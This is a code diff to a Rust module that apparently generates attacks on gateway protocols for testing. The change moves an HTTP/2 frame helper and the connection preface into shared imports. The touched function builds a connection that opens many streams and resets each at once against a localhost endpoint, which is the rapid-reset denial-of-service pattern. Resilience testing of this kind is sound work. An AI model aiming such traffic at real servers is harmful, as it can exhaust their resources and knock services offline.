@@ -1,6 +1,7 @@
 //! Attacks on gateway protocols.
 
 use crate::attacks::{Attack, Ending, Target};
+use crate::raw::{HTTP2_PREFACE, http2_frame as frame};
 use flate2::{Compression, write::GzEncoder};
 use std::io::Write as _;
 use std::time::Duration;
@@ -74,14 +75,10 @@ fn http() -> Vec<Attack> {
 
 /// Returns the bytes of an HTTP/2 connection with `count` calls. Each call is reset immediately.
 fn resets(count: u32) -> Vec<u8> {
-    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
-        let length = u32::try_from(payload.len()).expect("length should fit u32").to_be_bytes();
-        [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
-    };
     let path = b"/interop.Interop/Sleep";
     // Entries of HPACK's static table: POST, http, and the names of the path and of the authority.
     let fields = [&[0x83, 0x86, 0x04, path.len() as u8], &path[..], &[0x01, 9], b"localhost"].concat();
-    let mut bytes = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, b"")].concat();
+    let mut bytes = [HTTP2_PREFACE, &frame(4, 0, 0, b"")].concat();
     for stream in (1..).step_by(2).take(count as usize) {
         bytes.extend(frame(1, 4, stream, &fields));
         bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
